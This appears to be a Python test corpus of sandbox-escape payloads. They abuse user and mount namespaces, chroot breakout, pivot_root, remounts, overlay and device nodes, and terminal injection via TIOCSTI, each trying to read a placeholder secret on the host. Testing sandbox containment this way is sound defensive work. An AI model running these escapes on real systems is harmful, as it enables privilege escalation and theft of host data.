"""Namespaces inside the sandbox, mounts, roots."""

from tests.escapes.corpus import NATIVE, TRY, Payload

PAYLOADS: list[Payload] = [
    Payload("user namespaces", "unshare one kind after the other", (NATIVE, r"""
kinds = {"user": 0x10000000, "mount": 0x20000, "net": 0x40000000, "pid": 0x20000000, "uts": 0x04000000, "ipc": 0x08000000,
         "cgroup": 0x02000000, "time": 0x80, "files": 0x400, "fs": 0x200, "sysvsem": 0x40000}
for name, flag in kinds.items():
    attempt(name, syscall, "unshare", flag)
    attempt("with user", syscall, "unshare", flag | 0x10000000)
attempt("secret", lambda: open("{{SECRET}}").read())
""")),
    Payload("user namespaces", "root in a new namespace, then a mount of the host", (NATIVE, r"""
mine = private()
for name, text in (("setgroups", "deny"), ("uid_map", f"0 {os.getuid()} 1"), ("gid_map", f"0 {os.getgid()} 1")):
    attempt(name, lambda: open("/proc/self/" + name, "w").write(text))
tmp = os.environ.get("TMPDIR", "/tmp").encode()
for source, kind, flags in ((b"/", None, 0x5000), (b"proc", b"proc", 0), (b"none", b"tmpfs", 0),
                            (b"/proc/{{PID}}/root", None, 0x5000)):
    if mine:
        attempt("mount", syscall, "mount", source, tmp, kind or 0, flags, 0)
    attempt("under", lambda: open(tmp + b"{{SECRET}}").read())
    attempt("processes", lambda: open(tmp + b"/{{PID}}/environ").read())
""")),
    Payload("user namespaces", "clone and clone3 with every flag", (NATIVE, r"""
import struct
for flag in (0x10000000, 0x10000000 | 0x20000, 0x50000000, 0x30000000, 0x7e020000, 0x80 | 0x10000000):
    def go(call):
        pid = call()
        if pid == 0:
            try:
                os.write(1, b"inside %d\n" % os.getuid())
                os.write(1, open("{{SECRET}}", "rb").read())
            finally:
                os._exit(0)
        return os.waitpid(pid, 0)
    attempt("clone", go, lambda: syscall("clone", flag | 17, 0, 0, 0, 0))
    attempt("clone3", go, lambda: syscall("clone3", struct.pack("QQQQQQQQ", flag, 0, 0, 0, 17, 0, 0, 0), 64))
    attempt("cgroup", go, lambda: syscall("clone3", struct.pack("11Q", flag | 1 << 33, 0, 0, 0, 17, 0, 0, 0, 0, 0, 3), 88))
""")),
    Payload("user namespaces", "setns into the namespaces of others", (NATIVE, r"""
for pid in ("{{PID}}", "1", str(os.getppid()), "self"):
    for kind in ("user", "mnt", "net", "pid", "uts", "ipc", "cgroup", "time", "pid_for_children"):
        fd = attempt(kind, os.open, f"/proc/{pid}/ns/{kind}", 0)
        if fd:
            attempt("setns", syscall, "setns", fd, 0)
            attempt("parent", lambda: syscall("setns", syscall("ioctl", fd, 0xb702, 0), 0))
            attempt("owner", lambda: syscall("setns", syscall("ioctl", fd, 0xb701, 0), 0))
attempt("secret", lambda: open("{{SECRET}}").read())
attempt("net", lambda: __import__("socket").create_connection(("127.0.0.1", {{PORT}}), 1))
""")),
    Payload("user namespaces", "unshare and nsenter programs", (TRY, r"""
import subprocess
for command in (["unshare", "-Urm", "cat", "{{SECRET}}"], ["unshare", "-Urn", "true"],
                ["nsenter", "-t", "{{PID}}", "-a", "cat", "{{SECRET}}"],
                ["nsenter", "--mount=/proc/1/ns/mnt", "cat", "{{SECRET}}"], ["bwrap", "--bind", "/", "/", "cat", "{{SECRET}}"],
                ["chroot", "/proc/{{PID}}/root", "cat", "{{SECRET}}"], ["ip", "link"], ["setpriv", "--dump"],
                ["capsh", "--print"]):
    attempt(command[0], lambda: subprocess.run(command, capture_output=True, timeout=5))
""")),
    Payload("user namespaces", "nested a hundred deep", (NATIVE, r"""
depth = 0
while depth < 100:
    try:
        syscall("unshare", 0x10000000); depth += 1
        open("/proc/self/uid_map", "w").write("0 0 1")
    except OSError as error:
        print(error)
        break
print(depth)
""", "print('alive')")),
    Payload("user namespaces", "network namespace with its own loopback", (NATIVE, r"""
import socket, struct, fcntl
attempt("unshare", syscall, "unshare", 0x50000000)
def up(sock, name=b"lo"):
    return fcntl.ioctl(sock, 0x8914, struct.pack("16sh14x", name, 0x41))
attempt("up", lambda: up(socket.socket()))
link = struct.pack("IHHII", 32, 16, 0x605, 1, 0) + bytes(16)
attempt("veth", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).send(link))
attempt("connect", lambda: socket.create_connection(("127.0.0.1", {{PORT}}), 1))
attempt("filter", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 255).setsockopt(0, 64, bytes(84)))
attempt("udp", lambda: socket.socket(2, 2).sendto(b"owned", ("127.0.0.1", {{UDP}})))
""")),
    Payload("user namespaces", "uid and gid maps that promise too much", (NATIVE, r"""
attempt("unshare", syscall, "unshare", 0x10000000)
for text in ("0 0 4294967295", "0 0 1", "1000 1000 1", "0 65534 1", "0 1000 1\n1 100000 65536"):
    attempt("uid", lambda: open("/proc/self/uid_map", "w").write(text))
    attempt("gid", lambda: open("/proc/self/gid_map", "w").write(text))
attempt("newuidmap", lambda: __import__("subprocess").run(["newuidmap", str(os.getpid()), "0", "0", "1"], capture_output=True))
attempt("projid", lambda: open("/proc/self/projid_map", "w").write("0 0 1"))
attempt("setuid", lambda: (os.setuid(0), open("{{SECRET}}").read()))
attempt("owner", lambda: os.chown("{{TARGET}}", 0, 0))
""")),
    Payload("mounts and roots", "chroot and the way back out", (NATIVE, r"""
tmp = os.environ.get("TMPDIR", "/tmp")
attempt("mkdir", os.mkdir, tmp + "/jail")
here = attempt("open", os.open, "/", os.O_RDONLY)
attempt("chroot", os.chroot, tmp + "/jail")
attempt("fchdir", os.fchdir, here or 0)
for _ in range(64):
    try:
        os.chdir("..")
    except OSError:
        pass
attempt("chroot", os.chroot, ".")
attempt("secret", lambda: open("{{SECRET}}").read())
attempt("list", lambda: os.listdir("/"))
""", "print('alive')")),
    Payload("mounts and roots", "pivot_root back, old root looked for", (NATIVE, r"""
mine = private()
for new, old in ((b".", b"."), (b"/tmp", b"/tmp"), (b"/proc/1/root", b"/tmp"), (b"/", b"/old")):
    if mine:
        attempt("pivot", syscall, "pivot_root", new, old)
for path in ("/old", "/oldroot", "/.old", "/.pivot_root", "/put_old", "/mnt", "/host", "/..", "/./../..", "/proc/1/root",
             "/.old_root"):
    attempt(path, lambda: os.listdir(path)[:20])
    attempt("secret", lambda: open(path + "{{SECRET}}").read())
""")),
    Payload("mounts and roots", "umount what covers the host", (NATIVE, r"""
lines = attempt("mounts", lambda: open("/proc/self/mountinfo").read().splitlines()) or []
print("\n".join(lines))
if private():
    for line in lines[::-1]:
        attempt(line.split()[4], syscall, "umount2", line.split()[4].encode(), 2)
attempt("secret", lambda: open("{{SECRET}}").read())
attempt("list", lambda: os.listdir("/"))
""", "print('alive')")),
    Payload("mounts and roots", "remount writable", (NATIVE, r"""
import sys
mine = private()
for path in (b"/usr", b"/lib", sys.prefix.encode(), os.getcwd().encode()):
    for flags in (32, 32 | 4096):
        if mine:
            attempt("remount", syscall, "mount", 0, path, 0, flags, 0)
    def probe():
        os.close(os.open(path, os.O_TMPFILE | os.O_RDWR))
        broke(path)
    if path != os.getcwd().encode():
        attempt("write", probe)
attempt("setattr", lambda: mine and syscall("mount_setattr", -100, b"/", 0x8000, bytes(8) + b"\1" + bytes(23), 32))
""")),
    Payload("mounts and roots", "the new mount calls", (NATIVE, r"""
mine = private()
tree = attempt("open_tree", syscall, "open_tree", -100, b"/", 1 | 0x8000)
attempt("open_tree", syscall, "open_tree", -100, b"/proc/{{PID}}/root", 1)
tmp = os.environ.get("TMPDIR", "/tmp").encode()
if mine:
    attempt("move", syscall, "move_mount", tree or 3, b"", -100, tmp, 4)
attempt("secret", lambda: open(tmp + b"{{SECRET}}").read())
for kind in (b"tmpfs", b"proc", b"sysfs", b"overlay", b"ext4", b"fuse", b"cgroup2", b"bpf", b"devpts", b"mqueue", b"nfs", b"9p"):
    fs = attempt(kind, syscall, "fsopen", kind, 0)
    if fs:
        attempt("create", syscall, "fsconfig", fs, 6, 0, 0, 0)
        attempt("mount", syscall, "fsmount", fs, 0, 0)
attempt("pick", syscall, "fspick", -100, b"/", 0)
attempt("statmount", lambda: syscall("statmount", bytes(32), bytes(512), 512, 0))
attempt("listmount", lambda: syscall("listmount", bytes(32), bytes(512), 64, 0))
""")),
    Payload("mounts and roots", "overlay, fuse and loop devices", (NATIVE, r"""
tmp = os.environ.get("TMPDIR", "/tmp")
for name in ("low", "up", "work", "merged"):
    attempt("mkdir", os.mkdir, f"{tmp}/{name}")
options = f"lowerdir=/,upperdir={tmp}/up,workdir={tmp}/work".encode()
if private():
    attempt("overlay", syscall, "mount", b"overlay", f"{tmp}/merged".encode(), b"overlay", 0, options)
attempt("secret", lambda: open(tmp + "/merged{{SECRET}}").read())
attempt("fuse", lambda: os.open("/dev/fuse", os.O_RDWR))
attempt("loop", lambda: os.open("/dev/loop-control", os.O_RDWR))
for disk in ("sda", "sda1", "vda", "vda1", "nvme0n1", "nvme0n1p1", "dm-0", "loop0", "mapper/control", "disk/by-uuid"):
    attempt(disk, lambda: open("/dev/" + disk, "rb").read(64))
""")),
    Payload("mounts and roots", "device nodes of the sandbox", (TRY, r"""
import os, stat
for name in sorted(os.listdir("/dev")) if os.path.isdir("/dev") else []:
    path = "/dev/" + name
    attempt(path, lambda: (oct(os.stat(path).st_mode), os.major(os.stat(path).st_rdev), os.minor(os.stat(path).st_rdev)))
for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1", "/dev/ptmx", "/dev/vsock", "/dev/kvm", "/dev/net/tun",
             "/dev/uinput", "/dev/input/event0", "/dev/dri/card0", "/dev/nvidia0", "/dev/random", "/dev/full", "/dev/vhost-net"):
    attempt(path, lambda: os.open(path, os.O_RDWR | os.O_NONBLOCK))
import fcntl, termios
for fd in range(0, 10):
    attempt("tiocsti", lambda: fcntl.ioctl(fd, termios.TIOCSTI, b"x"))
    attempt("tioclinux", lambda: fcntl.ioctl(fd, 0x541C, b"\3"))
""")),
    Payload("mounts and roots", "mount propagation and peers", (NATIVE, r"""
tmp = os.environ.get("TMPDIR", "/tmp").encode()
if private():
    for flags in (1 << 20 | 0x4000, 1 << 18, 1 << 19, 1 << 17):
        attempt("propagate", syscall, "mount", 0, b"/", 0, flags, 0)
    attempt("bind", syscall, "mount", b"/proc/1/root", tmp, 0, 0x5000, 0)
attempt("dev", lambda: os.mknod(tmp + b"/null", 0o20666, os.makedev(1, 3)))
attempt("info", lambda: [line for line in open("/proc/self/mountinfo") if "shared:" in line or "master:" in line])
attempt("secret", lambda: open(tmp + b"{{SECRET}}").read())
""")),
]
